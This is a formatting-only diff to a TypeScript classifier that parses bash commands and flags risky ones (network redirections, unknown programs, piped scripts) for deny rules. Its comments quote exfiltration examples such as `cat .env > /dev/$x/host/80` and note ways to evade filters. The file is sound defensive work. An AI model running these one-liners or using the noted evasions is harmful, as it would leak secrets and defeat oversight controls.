@@ -53,7 +53,15 @@ interface Assignment {
 
 const NO_STDIN: Stdin = { kind: 'none' };
 /** Directories whose programs are the system's own: `/usr/bin/git` is git, `./git` is not. */
-const SYSTEM_DIRS = new Set(['/bin', '/usr/bin', '/usr/local/bin', '/sbin', '/usr/sbin', '/usr/local/sbin', '/opt/homebrew/bin']);
+const SYSTEM_DIRS = new Set([
+  '/bin',
+  '/usr/bin',
+  '/usr/local/bin',
+  '/sbin',
+  '/usr/sbin',
+  '/usr/local/sbin',
+  '/opt/homebrew/bin',
+]);
 /** Project-local programs that are meant to be run by path. */
 const LOCAL_TOOLS = new Set(['gradlew', 'mvnw', 'configure']);
 /** bash opens a connection for a redirection to these. */
@@ -88,7 +96,11 @@ function heredoc(r: SyntaxNode): Stdin {
   // A quoted delimiter (`<<'EOF'`, `<<"EOF"`, `<<\EOF`) means the body is passed on as written.
   if (/['"\\]/.test(start)) return { kind: 'heredoc', body: text, literal: true };
   const dynamic = body?.children.some((c) => c.type !== 'heredoc_content') ?? false;
-  return { kind: 'heredoc', body: text.replace(/\\([$`\\\n])/g, (_, c: string) => (c === '\n' ? '' : c)), literal: !dynamic };
+  return {
+    kind: 'heredoc',
+    body: text.replace(/\\([$`\\\n])/g, (_, c: string) => (c === '\n' ? '' : c)),
+    literal: !dynamic,
+  };
 }
 
 function assignmentOf(node: SyntaxNode): Assignment {
@@ -123,7 +135,12 @@ class Walker {
     let syntax = this.parse(source);
     const where = via.length ? `${via.at(-1)}: ` : '';
     for (const p of syntax.problems) this.problems.add(where + p);
-    if (source.length <= MAX_RESPACED_LENGTH && syntax.problems.length && syntax.problems.every((p) => /^the command (does not parse|is incomplete)/.test(p)) && source.includes('((')) {
+    if (
+      source.length <= MAX_RESPACED_LENGTH &&
+      syntax.problems.length &&
+      syntax.problems.every((p) => /^the command (does not parse|is incomplete)/.test(p)) &&
+      source.includes('((')
+    ) {
       // `$((cmd) | x)` is a command substitution to bash (arithmetic fails, so it re-reads it) but a
       // parse error to tree-sitter. The line stays unfollowable; the spaced-out reading, if it
       // parses, is walked instead, so deny rules still see the commands in it.
@@ -171,7 +188,9 @@ class Walker {
       if ('names' in c) return c.names.some((n) => unsafe.has(n) || /^\d+$/.test(n));
       // Unset by the line (the fixed environment's value) or an integer: not a connection.
       if (!unsafe.has(c.name) && !/^\d+$/.test(c.name)) return false;
-      return (this.bindings.get(c.name) ?? [{ integer: null }]).some((b) => b.text === undefined || mayConnect(c.prefix + b.text));
+      return (this.bindings.get(c.name) ?? [{ integer: null }]).some(
+        (b) => b.text === undefined || mayConnect(c.prefix + b.text),
+      );
     };
     for (const c of this.conditions.splice(0)) if (holds(c)) this.problems.add(c.problem);
   }
@@ -181,7 +200,10 @@ class Walker {
     let rank = this.writes.length ? COMMAND_CLASSES.indexOf('write') : 0;
     for (const c of this.commands) rank = Math.max(rank, COMMAND_CLASSES.indexOf(c.class));
     return {
-      commands: this.commands, writes: this.writes, followable, problems: [...this.problems],
+      commands: this.commands,
+      writes: this.writes,
+      followable,
+      problems: [...this.problems],
       class: followable ? COMMAND_CLASSES[rank]! : 'unknown',
     };
   }
@@ -221,7 +243,11 @@ class Walker {
         const a = assignmentOf(node);
         if (riskyVariable(a.name, a.value)) {
           this.problems.add(`${a.name} is set, so what later commands run cannot be seen`);
-          this.emit([`${a.name}=${a.value}`], { class: 'unknown', reason: `sets ${a.name}, which changes what later commands run` }, scope.via);
+          this.emit(
+            [`${a.name}=${a.value}`],
+            { class: 'unknown', reason: `sets ${a.name}, which changes what later commands run` },
+            scope.via,
+          );
         }
         return this.walkChildren(node, scope);
       }
@@ -240,7 +266,8 @@ class Walker {
     const s = scope.stdin === NO_STDIN ? scope : { ...scope, stdin: NO_STDIN };
     for (const c of node.children) {
       // A prefix assignment's risk is judged with its command; only its value's substitutions are walked here.
-      if (c.type === 'variable_assignment' && (node.type === 'command' || node.type === 'declaration_command')) this.walkChildren(c, s);
+      if (c.type === 'variable_assignment' && (node.type === 'command' || node.type === 'declaration_command'))
+        this.walkChildren(c, s);
       else this.walk(c, s);
     }
   }
@@ -251,8 +278,10 @@ class Walker {
     const args = node.children.filter((c) => c.field === 'argument');
     let stdin = pending?.stdin;
     for (const r of childrenByField(node, 'redirect')) {
-      if (r.type === 'herestring_redirect') stdin = { kind: 'herestring', word: wordOf(r.children.find((c) => c.named) ?? r) };
-      if (r.type === 'file_redirect' && redirectOperator(r) === '<') stdin = { kind: 'file', word: wordOf(childByField(r, 'destination') ?? r) };
+      if (r.type === 'herestring_redirect')
+        stdin = { kind: 'herestring', word: wordOf(r.children.find((c) => c.named) ?? r) };
+      if (r.type === 'file_redirect' && redirectOperator(r) === '<')
+        stdin = { kind: 'file', word: wordOf(childByField(r, 'destination') ?? r) };
     }
     const nodes = name ? [name, ...args] : args;
     const typed = wordsOf(nodes, node);
@@ -337,10 +366,18 @@ class Walker {
     const target = wordOf(dest);
     // What the target starts with for certain: the whole of a literal word, else the text before its
     // first expansion. `~+` and `~-` are $PWD and $OLDPWD, which a line can set to anything.
-    const fixed = /^~[+-]/.test(target.value) ? '' : target.literal ? target.value : target.value.replace(/[$`][\s\S]*$/, '');
+    const fixed = /^~[+-]/.test(target.value)
+      ? ''
+      : target.literal
+        ? target.value
+        : target.value.replace(/[$`][\s\S]*$/, '');
     if (NETWORK_PATH.test(fixed)) {
       // bash itself opens a connection for these paths: `echo secret > /dev/tcp/host/80` needs no curl.
-      return this.emit([`${op}${target.value}`], { class: 'network', reason: `the redirection to ${short(target.value)} opens a network connection` }, scope.via);
+      return this.emit(
+        [`${op}${target.value}`],
+        { class: 'network', reason: `the redirection to ${short(target.value)} opens a network connection` },
+        scope.via,
+      );
     }
     if (fixed !== target.value && mayConnect(fixed)) {
       // `x=tcp; cat .env > /dev/$x/host/80`: the target could still turn out to be a connection.
@@ -348,7 +385,9 @@ class Walker {
       // is seen: a variable the line never sets holds the fixed environment's value (`> "$TMPDIR/x"`),
       // an integer cannot spell tcp, and literal values (`d=out; … > "$d/log"`) can be checked.
       const problem = `${op}${short(target.value)}: the redirection target is only known at run time (it could be /dev/tcp/…)`;
-      const next = /^~[+-]/.test(target.value) ? null : /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})/.exec(target.value.slice(fixed.length));
+      const next = /^~[+-]/.test(target.value)
+        ? null
+        : /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})/.exec(target.value.slice(fixed.length));
       if (next) this.conditions.push({ prefix: fixed, name: (next[1] ?? next[2])!, problem });
       else this.problems.add(problem);
     }
@@ -374,24 +413,43 @@ class Walker {
     // is still judged as rm (the definition may not be the one that runs, or may not run at all).
     const cmd = basename(name.value);
     argv[0] = cmd;
-    const dir = name.value.includes('/') ? name.value.slice(0, name.value.length - cmd.length).replace(/\/+$/, '') || '/' : undefined;
+    const dir = name.value.includes('/')
+      ? name.value.slice(0, name.value.length - cmd.length).replace(/\/+$/, '') || '/'
+      : undefined;
     if (dir !== undefined && !SYSTEM_DIRS.has(dir) && !LOCAL_TOOLS.has(cmd)) {
       if (/(^|\/)node_modules\/\.bin$/.test(dir) && !dir.split('/').includes('..')) {
         // A package's program, not the system one of the same name: project code, like `npm test`,
         // and named by its path so that no rule about the system `ls` or `git` matches it.
         argv[0] = name.value;
-        return this.emit(argv, { class: 'test-build', reason: `runs ${short(name.value)}, a program installed in the project's node_modules` }, scope.via);
+        return this.emit(
+          argv,
+          {
+            class: 'test-build',
+            reason: `runs ${short(name.value)}, a program installed in the project's node_modules`,
+          },
+          scope.via,
+        );
       }
       // `./git status` is not git: a rule about `git status` must not allow it.
       this.problems.add(`${short(name.value)} is not the system ${cmd}: what it runs cannot be seen`);
-      return this.emit(argv, { class: 'unknown', reason: `runs ${short(name.value)}, a program outside the system directories` }, scope.via);
+      return this.emit(
+        argv,
+        { class: 'unknown', reason: `runs ${short(name.value)}, a program outside the system directories` },
+        scope.via,
+      );
     }
     const wrapped = unwrap(cmd, words);
     if (wrapped && (wrapped.self || wrapped.runs.length)) {
       if (wrapped.self?.problem) this.problems.add(wrapped.self.problem);
       if (wrapped.self) this.emit(wrapped.self.argv ?? argv, wrapped.self, scope.via);
       for (const w of wrapped.writes ?? []) this.write(w.value);
-      const inherited = [...assignments, ...(wrapped.assignments ?? []).map((w) => ({ name: w.value.split('=')[0]!, value: w.value.slice(w.value.indexOf('=') + 1) }))];
+      const inherited = [
+        ...assignments,
+        ...(wrapped.assignments ?? []).map((w) => ({
+          name: w.value.split('=')[0]!,
+          value: w.value.slice(w.value.indexOf('=') + 1),
+        })),
+      ];
       for (const inner of wrapped.runs) this.inner(inner, argv, scope, inherited);
       return;
     }
@@ -417,20 +475,48 @@ class Walker {
     const via = [...scope.via, inner.label];
     if ('argv' in inner) return this.run(inner.argv, { ...scope, via }, assignments);
     if ('file' in inner) {
-      return this.emit(argv, { class: 'unknown', reason: `${inner.label} runs the script file ${short(inner.file.value)}, whose commands cannot be seen` }, scope.via);
+      return this.emit(
+        argv,
+        {
+          class: 'unknown',
+          reason: `${inner.label} runs the script file ${short(inner.file.value)}, whose commands cannot be seen`,
+        },
+        scope.via,
+      );
     }
     if ('script' in inner) return this.shellString(inner.script, via, argv, scope, inner.opaque);
     const stdin = scope.stdin;
     switch (stdin.kind) {
       case 'heredoc':
-        return this.shellString({ value: stdin.body, literal: stdin.literal, pattern: '' }, [...scope.via, `${inner.label} <<EOF`], argv, scope);
+        return this.shellString(
+          { value: stdin.body, literal: stdin.literal, pattern: '' },
+          [...scope.via, `${inner.label} <<EOF`],
+          argv,
+          scope,
+        );
       case 'herestring':
         return this.shellString(stdin.word, [...scope.via, `${inner.label} <<<`], argv, scope);
       case 'file':
-        return this.emit(argv, { class: 'unknown', reason: `${inner.label} runs the script file ${short(stdin.word.value)}, whose commands cannot be seen` }, scope.via);
+        return this.emit(
+          argv,
+          {
+            class: 'unknown',
+            reason: `${inner.label} runs the script file ${short(stdin.word.value)}, whose commands cannot be seen`,
+          },
+          scope.via,
+        );
       default:
-        this.problems.add(`${inner.label} reads its script from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}, which cannot be seen`);
-        return this.emit(argv, { class: 'unknown', reason: `${inner.label} runs a script it reads from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}` }, scope.via);
+        this.problems.add(
+          `${inner.label} reads its script from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}, which cannot be seen`,
+        );
+        return this.emit(
+          argv,
+          {
+            class: 'unknown',
+            reason: `${inner.label} runs a script it reads from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}`,
+          },
+          scope.via,
+        );
     }
   }
 
@@ -464,7 +550,9 @@ export function createClassifier(parse: ParseFn): ShellClassifier {
     classify(command: string): ShellAnalysis {
       const walker = new Walker(parse);
       if (command.length > MAX_SOURCE_LENGTH) {
-        walker.problems.add(`the command is ${command.length} characters long; only commands up to ${MAX_SOURCE_LENGTH} are analysed`);
+        walker.problems.add(
+          `the command is ${command.length} characters long; only commands up to ${MAX_SOURCE_LENGTH} are analysed`,
+        );
       } else {
         walker.script(command, [], undefined);
         walker.finish();
